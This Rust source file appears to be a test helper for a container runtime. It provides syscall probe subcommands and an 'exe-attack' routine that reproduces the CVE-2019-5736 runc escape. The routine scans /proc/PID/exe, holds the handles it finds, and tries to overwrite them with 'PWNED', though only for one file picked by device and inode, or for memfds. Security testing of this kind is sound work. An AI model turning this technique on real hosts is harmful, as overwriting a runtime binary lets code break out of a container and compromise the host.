//! Probe subcommands that make one system call and print what happened as one JSON object
//! (`{"ok": bool, "errno": N, ...}`, exit status 0 either way), and the CVE-2019-5736 loop
//! (which only ever writes to the one file it is given).
use serde_json::{json, Value};
use std::ffi::CString;
use std::fs;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::time::{Duration, Instant};

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

fn cstr(path: &str) -> Result<CString, String> {
    CString::new(path).map_err(|e| format!("{path}: {e}"))
}

fn outcome(ret: i64) -> Value {
    match ret {
        -1 => json!({"ok": false, "errno": errno()}),
        r => json!({"ok": true, "ret": r, "errno": 0}),
    }
}

/// `mkdir PATH`
pub fn mkdir(path: &str) -> Result<Value, String> {
    let p = cstr(path)?;
    // SAFETY: p is a valid NUL-terminated string.
    Ok(outcome(unsafe { libc::mkdir(p.as_ptr(), 0o755) } as i64))
}

/// `personality N` (decimal or 0x-hex)
pub fn personality(arg: &str) -> Result<Value, String> {
    let n = match arg.strip_prefix("0x") {
        Some(hex) => u64::from_str_radix(hex, 16),
        None => arg.parse(),
    }
    .map_err(|e| format!("personality {arg}: {e}"))?;
    // SAFETY: personality(2) takes a plain integer.
    Ok(outcome(
        unsafe { libc::personality(n as libc::c_ulong) } as i64
    ))
}

/// `open PATH r|w`: open, then read or write one byte.
pub fn open(path: &str, mode: &str) -> Result<Value, String> {
    let p = cstr(path)?;
    let flags = match mode {
        "w" => libc::O_WRONLY,
        "rw" => libc::O_RDWR,
        _ => libc::O_RDONLY,
    };
    // SAFETY: p is a valid NUL-terminated string.
    let fd = unsafe { libc::open(p.as_ptr(), flags | libc::O_CLOEXEC) };
    if fd < 0 {
        return Ok(outcome(-1));
    }
    // SAFETY: fd was just returned by open(2) and is owned by nobody else.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    let mut byte = [0u8; 1];
    // SAFETY: the buffer is valid for one byte.
    let n = unsafe {
        match mode {
            "w" => libc::write(fd.as_raw_fd(), byte.as_ptr().cast(), 1),
            _ => libc::read(fd.as_raw_fd(), byte.as_mut_ptr().cast(), 1),
        }
    };
    Ok(outcome(n as i64))
}

/// `stat PATH` (follows symlinks): type letter, major/minor, size, device and inode.
pub fn stat(path: &str) -> Result<Value, String> {
    let m = match fs::metadata(path) {
        Ok(m) => m,
        Err(e) => return Ok(json!({"ok": false, "errno": e.raw_os_error()})),
    };
    let (kind, major, minor) = kind_and_dev(&m);
    Ok(json!({
        "ok": true, "type": kind, "major": major, "minor": minor, "size": m.len(),
        "uid": m.uid(), "gid": m.gid(), "dev": m.dev(), "ino": m.ino(),
    }))
}

/// `exe-attack --only DEV:INO --out PATH --stop PATH [--mark PATH]`: the CVE-2019-5736
/// pattern, aimed at one file only (the test's private copy of the runtime, identified by
/// device and inode) so that it can never damage anything else. Until the stop file appears
/// (at most 120 s), take an O_PATH handle to `/proc/PID/exe` of every other process in sight
/// (again whenever its exe changes) and, where it is the target or a memfd (a runtime's
/// sealed copy of itself: never a host file), try to open it for writing, directly and
/// through `/proc/self/fd/N` (which works once nothing executes the file any more). A
/// successful open writes a few bytes: the host then finds its binary changed. The mark is
/// written after the first round; after the stop file a last pass over the held fds. The
/// summary in `--out` lists every exe seen (`seen`: the round it was first seen in, its link
/// or the errno that refused reading it, whether the O_PATH open worked or its errno,
/// whether it was the target or a memfd, and the errnos of the refused writes), so a test can
/// tell an attack that held a runtime process's exe and was refused from one that never got
/// near it.
pub fn exe_attack(only: &str, out: &str, stop: &str, mark: Option<&str>) -> Result<(), String> {
    let target: (u64, u64) = only
        .split_once(':')
        .and_then(|(d, i)| Some((d.parse().ok()?, i.parse().ok()?)))
        .ok_or(format!("--only {only:?}: want DEV:INO"))?;
    let is_target = |path: &str| {
        fs::metadata(path)
            .map(|m| (m.dev(), m.ino()) == target)
            .unwrap_or(false)
    };
    let own = std::process::id().to_string();
    let mut seen_keys = std::collections::HashSet::new();
    let mut seen: Vec<Value> = Vec::new();
    // (index into `seen`, what, fd); only runtime candidates are written to.
    let mut held: Vec<(usize, String, OwnedFd)> = Vec::new();
    let (mut rounds, mut written) = (0u64, Vec::<String>::new());
    let deadline = Instant::now() + Duration::from_secs(120);
    let attack_held = |held: &[(usize, String, OwnedFd)],
                       seen: &mut [Value],
                       written: &mut Vec<String>,
                       note: &str| {
        for (i, what, fd) in held {
            let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
            if seen[*i]["target"] != true && seen[*i]["memfd"] != true {
                continue;
            }
            match try_write(&path) {
                Ok(()) => written.push(format!("{what} ({note})")),
                Err(e) => note_errno(&mut seen[*i], e),
            }
        }
    };
    while !std::path::Path::new(stop).exists() && Instant::now() < deadline {
        rounds += 1;
        for e in fs::read_dir("/proc")
            .map_err(|e| format!("/proc: {e}"))?
            .flatten()
        {
            let pid = e.file_name().to_string_lossy().into_owned();
            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == own {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            let link = fs::read_link(&exe).map(|t| t.display().to_string());
            let key = (pid, link.as_ref().ok().cloned().unwrap_or_default());
            let new = !seen_keys.contains(&key) && seen.len() < 512;
            if is_target(&exe) {
                if let Err(e) = try_write(&exe) {
                    if let Some(v) = seen.iter_mut().rev().find(|v| v["exe"] == exe) {
                        note_errno(v, e);
                    }
                } else {
                    written.push(exe.clone());
                }
            }
            if !new {
                continue;
            }
            seen_keys.insert(key);
            let p = cstr(&exe)?;
            // SAFETY: p is a valid NUL-terminated string.
            let fd = unsafe { libc::open(p.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
            let open_errno = if fd < 0 { errno() } else { 0 };
            let mut entry = json!({
                "exe": exe, "round": rounds, "link": link.as_ref().ok(),
                "link_errno": link.as_ref().err().and_then(|e| e.raw_os_error()),
                "held": fd >= 0, "open_errno": open_errno, "target": false, "memfd": false,
                "write_errnos": [],
            });
            if fd >= 0 {
                // SAFETY: fd was just returned by open(2) and is owned here only.
                let fd = unsafe { OwnedFd::from_raw_fd(fd) };
                let via = format!("/proc/self/fd/{}", fd.as_raw_fd());
                entry["target"] = json!(is_target(&via));
                // A memfd: named so, and on no filesystem path (never a host file).
                let memfd = fs::read_link(&via)
                    .is_ok_and(|t| t.to_string_lossy().starts_with("/memfd:"))
                    && fs::metadata(&via).is_ok_and(|m| m.nlink() == 0);
                entry["memfd"] = json!(memfd);
                held.push((seen.len(), exe, fd));
            }
            seen.push(entry);
        }
        attack_held(&held, &mut seen, &mut written, "held");
        if let (1, Some(m)) = (rounds, mark) {
            fs::write(m, "started\n").map_err(|e| format!("write {m}: {e}"))?;
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    // Once more: by the time the stop file appears no runtime process runs the file.
    attack_held(&held, &mut seen, &mut written, "held, last pass");
    let targets = seen.iter().filter(|v| v["target"] == true).count();
    let summary = json!({"rounds": rounds, "held": held.len(), "held_target": targets,
        "written": written, "seen": seen});
    write_whole(out, &format!("{summary}\n"))
}

/// Writes aside and renames: tests read an output file as soon as it exists, so it must never
/// be seen half-written.
pub fn write_whole(path: &str, text: &str) -> Result<(), String> {
    let tmp = format!("{path}.tmp");
    fs::write(&tmp, text).map_err(|e| format!("write {tmp}: {e}"))?;
    fs::rename(&tmp, path).map_err(|e| format!("rename {tmp} to {path}: {e}"))
}

/// Adds `errno` to the entry's refused writes (each errno once).
fn note_errno(entry: &mut Value, errno: i32) {
    if let Some(list) = entry["write_errnos"].as_array_mut() {
        if !list.contains(&json!(errno)) {
            list.push(json!(errno));
        }
    }
}

/// Opens `path` for writing without truncating and overwrites its first bytes; Ok if the
/// write went through, else the errno of the open or the write.
fn try_write(path: &str) -> Result<(), i32> {
    let p = CString::new(path).map_err(|_| libc::EINVAL)?;
    // SAFETY: p is a valid NUL-terminated string.
    let fd = unsafe { libc::open(p.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(errno());
    }
    // SAFETY: fd is open for writing; the buffer is valid for its length.
    let n = unsafe { libc::write(fd, b"PWNED".as_ptr().cast(), 5) };
    let e = errno();
    // SAFETY: fd is ours and closed once.
    unsafe { libc::close(fd) };
    match n {
        5 => Ok(()),
        -1 => Err(e),
        _ => Err(libc::EIO),
    }
}

/// `vmsplice`: one byte into a pipe. Needs no privilege, so a failure means a filter.
pub fn vmsplice() -> Result<Value, String> {
    let mut fds = [0i32; 2];
    // SAFETY: fds has room for the two descriptors pipe(2) writes.
    if unsafe { libc::pipe(fds.as_mut_ptr()) } != 0 {
        return Err(format!("pipe: errno {}", errno()));
    }
    // SAFETY: pipe(2) just returned these fds; they are owned here.
    let (_r, w) = unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) };
    let byte = [b'x'];
    let iov = libc::iovec {
        iov_base: byte.as_ptr() as *mut libc::c_void,
        iov_len: 1,
    };
    // SAFETY: iov points at a live one-byte buffer.
    Ok(outcome(
        unsafe { libc::vmsplice(w.as_raw_fd(), &iov, 1, 0) } as i64,
    ))
}

/// `ls -l`'s type letter and the device numbers (glibc's major/minor split of st_rdev).
pub fn kind_and_dev(m: &fs::Metadata) -> (&'static str, u64, u64) {
    let t = m.file_type();
    let kind = match () {
        _ if t.is_symlink() => "l",
        _ if t.is_dir() => "d",
        _ if t.is_char_device() => "c",
        _ if t.is_block_device() => "b",
        _ if t.is_fifo() => "p",
        _ if t.is_socket() => "s",
        _ => "f",
    };
    let rdev = m.rdev();
    let major = ((rdev >> 32) & 0xffff_f000) | ((rdev >> 8) & 0xfff);
    let minor = ((rdev >> 12) & 0xffff_ff00) | (rdev & 0xff);
    (kind, major, minor)
}

/// The SELinux label of the session keyring the runtime gave us
/// (`keyctl security @s`), or the errno.
pub fn keylabel() -> Result<Value, String> {
    let mut buf = [0u8; 512];
    // SAFETY: the buffer and its length are passed together.
    let n = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            libc::KEYCTL_GET_SECURITY,
            libc::KEY_SPEC_SESSION_KEYRING,
            buf.as_mut_ptr(),
            buf.len(),
        )
    };
    if n < 0 {
        let e = std::io::Error::last_os_error();
        return Ok(json!({"ok": false, "errno": e.raw_os_error()}));
    }
    let len = (n as usize).min(buf.len());
    let label = String::from_utf8_lossy(&buf[..len]);
    Ok(json!({"ok": true, "label": label.trim_end_matches('\0')}))
}
